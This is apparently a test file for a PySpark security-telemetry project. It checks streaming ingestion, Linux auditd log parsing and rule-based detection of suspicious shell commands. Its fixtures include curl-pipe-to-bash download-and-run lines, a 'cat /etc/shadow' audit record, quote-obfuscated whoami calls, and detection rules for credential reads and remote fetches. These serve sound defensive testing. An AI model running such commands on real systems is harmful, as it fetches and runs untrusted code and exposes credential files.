    query = df.writeStream.format("memory").queryName(name).outputMode("append").trigger(availableNow=True).start()
    assert query.awaitTermination(300)
    return df.sparkSession.table(name).collect()


def test_streamed_records_have_the_owners_of_the_batch(spark, tmp_path):
    """Records arrive out of order, over several files, a micro-batch each."""
    from covspark.streaming import ingest as stream

    rnd = random.Random(4)
    rows = [("h", rnd.choice(["1", "2", None]), i, rnd.random() < 0.3, "file") for i in range(120)] + [("h", "1", 10, True, None), ("h", "1", 5, False, "file")]
    rows = [(h, p, i, e, None if e else c, 1_700_000_000 + i, "d") for h, p, i, e, c in dict((r[2], r) for r in rows).values()]
    schema = "host string, pid string, record long, is_exec boolean, class string, s long, detail string"
    batches = [sorted(rows[a : a + 30], key=lambda r: rnd.random()) for a in range(0, 120, 30)] + [[("h", "9", 10**6, False, "file", 1_700_100_000, "end")]] * 2
    for n, batch in enumerate(batches):
        spark.createDataFrame(batch, schema).coalesce(1).write.json(f"{tmp_path}/in/{n}")
    events = spark.readStream.schema(schema).option("maxFilesPerTrigger", 1).option("recursiveFileLookup", True).json(f"{tmp_path}/in").withColumn("ts", F.timestamp_seconds("s"))
    got = {r.record: r.owner for r in run_stream(stream.correlate(events), "owned") if r.record < 10**6}
    want = {i: max((j for _, q, j, x, *_ in rows if x and q == p and j < i), default=None) if p else None for _, p, i, e, *_ in rows if not e}
    assert got == want


def test_streamed_audit_events_are_those_of_the_batch(spark, tmp_path):
    """Records of an event arrive apart, in other micro-batches than its first."""
    from covspark.streaming import ingest as stream

    lines = []
    for i in range(40):
        at = f"msg=audit({1_700_000_000 + i}.5:{i})"
        lines.append(f'type=SYSCALL {at}: success={"no" if i % 7 == 3 else "yes"} pid={i % 3} comm="c"')
        lines.append(f'type=EXECVE {at}: argc=2 a0="cat" a1="/etc/shadow"' if i % 2 else f'type=PATH {at}: name="/etc/cron.d/x{i}" nametype=CREATE')
    rows = [("f", n, x) for n, x in enumerate(lines)]
    for n, batch in enumerate([rows[0:50:2], rows[1:50:2], rows[50:][::-1], [("f", 9999, "type=SYSCALL msg=audit(1800000000.0:9999): pid=1")]]):
        spark.createDataFrame(batch, "src string, n long, line string").coalesce(1).write.json(f"{tmp_path}/in/{n}")
    streamed = spark.readStream.schema("src string, n long, line string").option("maxFilesPerTrigger", 1).option("recursiveFileLookup", True).json(f"{tmp_path}/in")
    columns = ["is_exec", "pid", "raw", "class", "detail"]
    got = sorted(tuple(str(r[c]) for c in columns) for r in run_stream(stream.stream_audit(streamed).select("record", "commands", "fields", *columns), "audited") if r.record < 9999)
    batch = telemetry.audit_events(telemetry.audit_groups(telemetry.audit_lines(spark.createDataFrame(rows, "src string, n long, line string"))))
    assert got == sorted(tuple(str(r[c]) for c in columns) for r in batch.collect()) and len(got) == 40
    found = stream.audit_findings(spark.table("audited").withColumn("src", F.lit("f")), kb.load("linux-auditd"))
    assert {r.record for r in found.where("rule_id = 'shadow-read'").collect()} == {2 * i for i in range(40) if i % 2}


def test_audit_lines_read_in_splits(spark, tmp_path):
    body = "\n".join(f'type=EXECVE msg=audit(1.0:{i}): argc=1 a0="run{i}"' for i in range(3000))
    (tmp_path / "a.log").write_text(body)
    spark.conf.set("spark.sql.files.maxPartitionBytes", "20000")
    try:
        got = telemetry.auditd(telemetry.read_lines(spark, f"{tmp_path}/a.log")).observations.select("record", "raw").collect()
    finally:
        spark.conf.unset("spark.sql.files.maxPartitionBytes")
    assert sorted((r.record, r.raw) for r in got) == [(i + 1, f"run{i}") for i in range(3000)]


def test_scaffold_blocks_merge_until_none_do():
    block = lambda a, b, f="F": {(f, "contains"): [a], ("G", "contains"): [b]}
    assert scaffold.merged([block("a", "1"), block("a", "2"), block("b", "1"), block("b", "2", "f")]) == [({("F", "contains"): ["a", "b"], ("G", "contains"): ["1", "2"]}, set())]
    assert len(scaffold.merged([block("a", "1"), block("b", "2")])) == 2


def test_programs_in_quotes_are_found(spark):
    """What the raw text rules out before commands are parsed."""
    assert found(spark, "'whoami'; wh'oam'i") == [(1, "whoami")]
    assert found(spark, "c\"ur\"l http://x") == found(spark, "curl http://x")
    assert found(spark, "/usr/bin/ID") == [(1, "id")]


def test_streamed_scripts_give_what_the_batch_gives(spark, tmp_path):
    from covspark.streaming import ingest as stream

    bodies = ["x=$(curl http://h/p)", "echo `whoami`", "curl \\\nhttp://x | bash", "curl http://x |\n bash", "cat <<E\nid\nE\nid", "bash <<E\nwhoami\nE", "", None, "id\r\nwhoami \\", "echo $(echo $(id))"]
    schema = "src string, text string"
    scripts = spark.createDataFrame([(str(i), t) for i, t in enumerate(bodies)], schema)
    scripts.write.json(f"{tmp_path}/in")
    base = kb.load("linux-auditd")
    query = stream.stream_findings(spark.readStream.schema(schema).json(f"{tmp_path}/in"), base).writeStream.format("memory").queryName("same").outputMode("append").trigger(availableNow=True).start()
    assert query.awaitTermination(60)
    rows = lambda df: sorted((r.src, r.line, r.rule_id, r.source) for r in df.collect())
    got = rows(spark.table("same"))
    assert got == rows(analyze.predictive(analyze.script_units(scripts), base))
    assert [(i, x) for s, i, x, _ in got if s == "0"] == [(1, "curl")]
    assert [(i, x) for s, i, x, _ in got if s == "5"] == [(2, "whoami")] and not [x for s, i, x, _ in got if s == "4" and i == 2]
    assert {(i, t) for s, i, _, t in got if s == "2"} == {(1, "curl  http://x | bash")}


def test_logical_findings_of_documents(spark, tmp_path):
    from covspark import queries

    bodies = ["the \\\nlicense", "a |\n b | c", "x=$(curl http://h/p)\necho `curl y`", "cat <<E\nlicense der\nE\nder", "bash <<E\ncurl x\nE", "", None, "# license\n  The los", "x &&\nlos 10.0.0.1\r\ntoken = \"y\"", "echo curl", "der\\"]
    spark.createDataFrame(list(enumerate(bodies)), "doc_id long, text string").write.parquet(f"{tmp_path}/documents.parquet")
    word = re.compile(r"(?<![A-Za-z0-9_])(der|los)(?![A-Za-z0-9_])")
    want = []
    for i, body in enumerate(bodies):
        for n, line in shell.logical_lines(body or ""):
            raw, low = line.strip(), line.strip().lower()
            if not raw or raw.startswith("#"):
                continue
            programs = [c.program for part in (line, *shell.substitutions(line)) for c in shell.parse(part)]
            said = {
                "license": "license" in low,
                "secret": re.search(r'token\s*=\s*"', low),
                "address": re.search(r"[0-9]{1,3}(\.[0-9]{1,3}){3}", raw),
                "bar": " | " in raw and "the" not in low,
                "word": word.search(low),
                "opening": low.startswith("the "),
                "fetch": "curl" in programs,
            }
            want += [(i, n, x) for x, v in said.items() if v]
    got = sorted((r.doc_id, r.line, r.rule_id) for r in queries.QUERIES["logical_findings"](spark, str(tmp_path)).collect())
    assert got == sorted(want)
    assert {(0, 1, "license"), (1, 1, "bar"), (2, 1, "fetch"), (2, 2, "fetch"), (4, 2, "fetch")} <= set(got) and (3, 2, "license") not in got


def test_every_line_address_and_finding_counts(spark, tmp_path):
    import ipaddress

    from covspark import queries

    bodies = [*LINES, "a | b; 'c | d' && e\nx \\| y\ntime ls | wc # z", None, "", "10.1.2.3 and 192.168.0.9, 10.1.2.3; 200.1.1.1:80 300.1.1.1 1.2.3.4.5", "der los\n" * 70]
    spark.createDataFrame(list(enumerate(bodies)), "doc_id long, text string").write.parquet(f"{tmp_path}/documents.parquet")
    run = lambda name: queries.QUERIES[name](spark, str(tmp_path)).collect()
    want = [(i, n, len(shell.parse(x))) for i, t in enumerate(bodies) for n, x in enumerate((t or "").split("\n"), 1) if x.strip() and not x.strip().startswith("#")]
    assert sorted((r.doc_id, r.line, r.commands) for r in run("parsed_commands")) == want
    nets = [ipaddress.ip_network(x) for x in ("10.0.0.0/8", "192.168.0.0/16", "128.0.0.0/1")]
    octet = "(?:25[0-5]|2[0-4][0-9]|1[0-9][0-9]|[1-9]?[0-9])"
    ips = {(i, ip) for i, t in enumerate(bodies) for ip in re.findall(rf"\b(?:{octet}\.){{3}}{octet}\b", t or "", re.ASCII)}
    got = run("cidr_match_all")
    assert len([ip for i, ip in ips if i == len(bodies) - 2]) >= 4
    assert sorted(map(tuple, got)) == sorted((i, ip, *(ipaddress.ip_address(ip) in n for n in nets)) for i, ip in ips)
    key = lambda r: (-r.noise, r.doc_id, r.line, r.rule_id)
    rows = run("ordered_findings")
    assert len(rows) > 70 and [key(r) for r in rows] == sorted(key(r) for r in run("predictive_findings"))
